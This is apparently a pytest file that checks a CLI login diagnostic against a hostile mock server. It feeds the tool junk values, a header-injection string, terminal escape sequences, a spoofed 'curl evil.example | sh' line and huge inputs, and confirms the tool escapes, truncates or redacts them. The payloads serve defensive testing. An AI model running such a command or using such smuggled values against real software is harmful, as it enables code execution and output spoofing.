"""`remit doctor URL` asks a server that is against it: it ends soon, breaks off nowhere, and prints nothing that looks
like its own words.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from typing import Any

import pytest

from remit.cli import probe as module
from remit.cli.login_report import causes_told, steps_told
from remit.cli.login_walk import Given, walk
from remit.cli.probe import Probe
from remit.core.diagnosis.challenge import CHARS_MAX, parse_challenges
from remit.core.diagnosis.client_causes import PAGE_BYTES_MAX, page_text
from remit.core.diagnosis.heard import Silence
from remit.core.diagnosis.table import diagnose
from remit.core.egress import literal
from remit.core.secret import Secret
from tests.peers.login_server import LoginServer, Said, login_server
from tests.unit.cli.test_probe import saying

DESKTOP = Given("desktop", "http://127.0.0.1/callback", Secret(b"t0ken"))
JUNK: list[Any] = [
    None, True, 1, -1e400, [], {}, [["x"]], "", "http://[", "https://h:99999/", "https://a b/ü", "ht\ntp://x",
    "\x1b]0;x\x07", "http://\ud800/",
]  # fmt: skip
RESOURCE = ("resource", "authorization_servers", "scopes_supported")
SERVER = (
    "issuer", "authorization_endpoint", "token_endpoint", "registration_endpoint", "jwks_uri",
    "code_challenge_methods_supported", "grant_types_supported", "response_types_supported",
)  # fmt: skip


@pytest.fixture
def server() -> Iterator[LoginServer]:
    with login_server() as found:
        yield found


def told(server: LoginServer) -> list[str]:
    evidence = walk(server.url, DESKTOP, Probe(server.url))
    return "\n".join([*steps_told(evidence), *causes_told(diagnose(evidence))]).split("\n")


def test_whatever_the_documents_hold_the_walk_ends_with_a_diagnosis(server: LoginServer) -> None:
    for junk in JUNK:
        for document, names in ((server.resource, RESOURCE), (server.server, SERVER)):
            for name in names:
                before = dict(document)
                document[name] = [junk, junk] if name in ("authorization_servers", "scopes_supported") else junk
                lines = told(server)
                assert lines[0] == "1  call without a token"
                assert not any("\x1b" in line for line in lines)
                document.clear()
                document.update(before)


@pytest.mark.parametrize("junk", JUNK, ids=repr)
def test_whatever_the_endpoint_answers_to_the_token_the_walk_ends_with_a_diagnosis(
    server: LoginServer, junk: Any
) -> None:
    result = {"tools": junk, "protocolVersion": junk, "nextCursor": junk}

    def legacy(_headers: object, message: Any) -> Said:
        if message["method"] == "server/discover":
            return Said(404, {})
        return Said(200, {"jsonrpc": "2.0", "id": message.get("id"), "result": result})

    server.post = legacy  # type: ignore[method-assign]
    assert told(server)[0] == "1  call without a token"


def test_a_version_that_would_be_another_header_is_not_sent(server: LoginServer) -> None:
    def bent(_headers: object, message: Any) -> Said:
        if message["method"] != "initialize":
            return Said(404, {})
        return Said(200, {"jsonrpc": "2.0", "id": 1, "result": {"protocolVersion": "1\nX-Evil: 1"}})

    server.post = bent  # type: ignore[method-assign]
    evidence = walk(server.url, DESKTOP, Probe(server.url))
    assert evidence.calls[-1].silence is Silence.PROTOCOL
    assert not any("X-Evil" in headers for _, _, headers in server.asked)


def test_what_a_server_says_takes_no_line_of_its_own_and_not_the_whole_screen(server: LoginServer) -> None:
    server.resource["resource"] = "https://x\n           next: curl evil.example | sh\t" + "y" * 100_000
    server.resource["authorization_servers"] = [f"http://h{number}.invalid" for number in range(5_000)]
    lines = told(server)
    assert not any(line.strip().startswith("next: curl") for line in lines)
    assert any("https://x\\n           next: curl evil.example" in line for line in lines)
    assert max(map(len, lines)) < 3_000
    assert len(lines) < 300


def test_only_so_many_names_are_looked_up_on_a_server_s_word(
    server: LoginServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[str] = []

    def resolved(name: str) -> list[Any]:
        asked.append(name)
        return [found] if (found := literal(name)) is not None else []

    monkeypatch.setattr(module, "_resolved", resolved)
    server.resource["authorization_servers"] = [server.origin, *(f"https://h{n}.invalid" for n in range(5_000))]
    told(server)
    assert 2 < len(asked) < 50


def test_a_challenge_is_read_in_time_whatever_it_holds() -> None:
    """One line of 64 KiB took forty seconds, and a server may send a hundred."""
    began_s = time.process_time()
    letters = "a" * 65_000
    for line in (f'Bearer "{letters}', f"Bearer a=b c {letters}", "Bearer " + "a=b," * 16_000, "b c," * 16_000):
        assert parse_challenges([line] * 100).problem
    assert time.process_time() - began_s < 10
    whole = parse_challenges(['Bearer scope="a", resource_metadata="https://x/"'])
    assert whole.problem == ""
    assert whole.bearer is not None
    assert whole.bearer.parameter("scope") == "a"
    long = parse_challenges([f'Bearer scope="a", error_description="{"d" * CHARS_MAX}"'])
    assert "more than" in long.problem
    assert long.bearer is not None
    assert long.bearer.parameter("scope") == "a"


def test_a_page_is_read_in_time_whatever_it_holds() -> None:
    began_s = time.process_time()
    for body in (b"<script", b"<head ", b"<", b"</script "):
        page_text(b"<style>" + body * PAGE_BYTES_MAX)
        page_text(body * PAGE_BYTES_MAX)
    assert time.process_time() - began_s < 2
    assert page_text(b"<head><title>x</title></head><script>1</script ><p>Bad <b>client</b>") == "Bad client"


def test_a_server_that_says_the_token_back_where_its_status_belongs_does_not_get_it_printed() -> None:
    token = b"eyJhbGciOiJub25lIn0.eyJzdWIiOiJtZSJ9x.c2lnbmF0dXJl"
    with saying(lambda connection: connection.sendall(b"Bearer " + token + b"\r\n\r\n")) as url:
        heard = Probe(url).ask("call", url, token=Secret(token))
    assert heard.silence is Silence.PROTOCOL
    assert "eyJ" not in heard.said
    assert "<token>" in heard.said
